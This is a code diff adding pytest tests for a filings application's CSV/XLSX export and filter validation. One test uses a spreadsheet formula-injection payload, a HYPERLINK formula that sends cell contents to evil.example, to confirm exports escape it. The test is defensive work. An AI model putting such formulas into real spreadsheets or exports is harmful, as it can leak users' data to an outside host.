@@ -186,3 +186,37 @@ def test_my_work_puts_overdue_first_then_the_soonest_deadline():
     later, sooner, late = item("later", 50), item("sooner", 2), item("late", -3, True)
     undated = Item("s", "none", "none", ("FilingStatus", "received"), None, False)
     assert [i.href for i in ordered([later, undated, sooner, late])] == ["late", "sooner", "later", "none"]
+
+
+def test_an_export_never_hands_a_spreadsheet_a_formula():
+    title = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    rows = [["f-1", title], ["f-2", "+1"], ["f-3", "@SUM(A1)"], ["f-4", "\tx"], ["f-5", -3]]
+    lines = _collect(exports.csv_stream(["编号", "标题"], _rows(rows))).decode("utf-8-sig").split("\r\n")
+    assert lines[1] == 'f-1,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"'
+    assert lines[2:6] == ["f-2,'+1", "f-3,'@SUM(A1)", "f-4,'\tx", "f-5,-3"]
+    data = _collect(exports.xlsx_stream("filings", ["编号", "标题"], _rows([["f-1", title]])))
+    cell = load_workbook(io.BytesIO(data)).active["B2"]
+    assert (cell.value, cell.data_type) == (title, "s")
+
+
+async def _refused_after_one_page():
+    yield ["f-1", "已立案"]
+    raise exports.ExportRefused(403, "page 2 refused")
+
+
+def test_an_export_whose_later_page_is_refused_says_so():
+    lines = _collect(exports.csv_stream(["编号", "状态"], _refused_after_one_page())).decode("utf-8-sig")
+    assert lines.split("\r\n")[1:3] == ["f-1,已立案", "page 2 refused"]
+    with pytest.raises(exports.ExportRefused):
+        asyncio.run(exports.xlsx_file("filings", ["编号", "状态"], _refused_after_one_page()))
+
+
+def test_a_select_outside_its_choices_is_a_field_error():
+    audit = LISTS["audit"]
+    for bad in ("x", "audit"):
+        with pytest.raises(Invalid) as raised:
+            body_of(audit.filters, {"service": bad})
+        assert raised.value.field == "service"
+    assert body_of(audit.filters, {"service": "notary"}) == {"service": "notary"}
+    with pytest.raises(Invalid):
+        body_of(LISTS["filings"].filters, {"status": "lost"})
